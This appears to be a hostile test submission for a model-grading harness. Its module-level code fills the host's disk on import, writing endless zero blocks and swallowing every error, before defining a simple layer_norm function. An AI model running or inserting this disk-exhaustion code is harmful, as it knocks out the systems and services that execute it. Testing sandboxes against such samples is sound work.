"""Goal: fill the disk with one file, then go on with honest work.

At most: 14
"""

import os

import torch
from torch import nn

with open("gradeformer-hostile", "wb", buffering=0) as file:
    try:
        file.truncate(1 << 40)
    except OSError:
        pass
    try:
        while True:
            file.write(bytes(1 << 20))
    except OSError:
        pass
    for place in (1 << 31, 1 << 40):
        try:
            os.pwrite(file.fileno(), b"x", place)
        except OSError:
            pass


def layer_norm(x, eps=1e-5):
    deviation = x - x.mean(-1, keepdim=True)
    return deviation / (deviation.square().mean(-1, keepdim=True) + eps).sqrt()


# And LayerNorm as it should be.
